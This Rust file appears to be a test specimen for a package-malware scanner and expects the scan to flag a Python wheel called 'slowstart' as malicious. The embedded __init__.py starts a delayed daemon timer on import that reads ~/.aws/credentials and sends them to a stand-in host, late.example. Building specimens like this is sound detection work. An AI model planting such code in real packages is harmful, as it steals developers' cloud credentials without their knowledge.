//! A wheel that, when it is imported, starts a timer thread of five minutes that keeps no process alive.
//!
//! Must be found.

use crate::{Expect, Specimen, Wheel, build::Package as _};

const SLOWSTART_INIT_PY: &str = r#"import os
import threading


def _later():
    import urllib.request

    with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
        urllib.request.urlopen("http://late.example/", file.read(), timeout=5)


timer = threading.Timer(300, _later)
timer.daemon = True
timer.start()
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("slowstart", "1.0.2").file("slowstart/__init__.py", SLOWSTART_INIT_PY);
    package.specimen(
        "pypi-late-timer",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
